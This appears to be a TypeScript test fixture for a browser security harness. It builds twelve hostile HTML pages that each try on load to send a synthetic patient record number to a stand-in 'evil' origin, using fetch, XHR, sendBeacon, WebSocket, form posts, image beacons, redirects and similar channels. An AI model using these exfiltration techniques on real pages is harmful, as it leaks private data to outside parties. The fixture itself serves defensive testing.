// One real hostile page per attack. Each tries to carry something to an unapproved
// origin (`evil`); `appOrigin` is the approved app. Pages run their attack on load.

export interface Scenario {
  id: string;
  page(urls: { evil: string; appOrigin: string }): string;
}

const html = (body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>hostile</title></head><body><h1>Synthetic chart SYN-0001</h1>${body}</body></html>`;
const script = (code: string) => html(`<script>${code}</script>`);

export const SCENARIOS: readonly Scenario[] = [
  { id: 'top-navigation', page: ({ evil }) => script(`location.href = ${JSON.stringify(evil)} + '?mrn=SYN-0001';`) },
  { id: 'redirect', page: ({ appOrigin }) => script(`location.href = ${JSON.stringify(`${appOrigin}/redirect/redirect`)};`) },
  { id: 'iframe', page: ({ evil }) => html(`<iframe title="ad" src="${evil}"></iframe>`) },
  { id: 'window-open', page: ({ evil }) => script(`window.open(${JSON.stringify(evil)});`) },
  { id: 'target-blank', page: ({ evil }) => html(`<a id="l" target="_blank" href="${evil}">outside</a><script>document.getElementById('l').click();</script>`) },
  { id: 'form-post', page: ({ evil }) => html(`<form id="f" method="post" action="${evil}"><input name="mrn" value="SYN-0001"></form><script>document.getElementById('f').submit();</script>`) },
  { id: 'fetch', page: ({ evil }) => script(`fetch(${JSON.stringify(evil)}, { method: 'POST', body: 'SYN-0001', mode: 'no-cors' }).catch(() => {});`) },
  { id: 'xhr', page: ({ evil }) => script(`const x = new XMLHttpRequest(); x.open('POST', ${JSON.stringify(evil)}); x.send('SYN-0001');`) },
  { id: 'websocket', page: ({ evil }) => script(`try { new WebSocket(${JSON.stringify(evil.replace('http:', 'ws:'))}); } catch (e) {}`) },
  { id: 'send-beacon', page: ({ evil }) => script(`navigator.sendBeacon(${JSON.stringify(evil)}, 'SYN-0001');`) },
  { id: 'image', page: ({ evil }) => script(`new Image().src = ${JSON.stringify(evil)} + '?d=SYN-0001';`) },
  { id: 'meta-refresh', page: ({ evil }) => html(`<meta http-equiv="refresh" content="0;url=${evil}">`) },
];
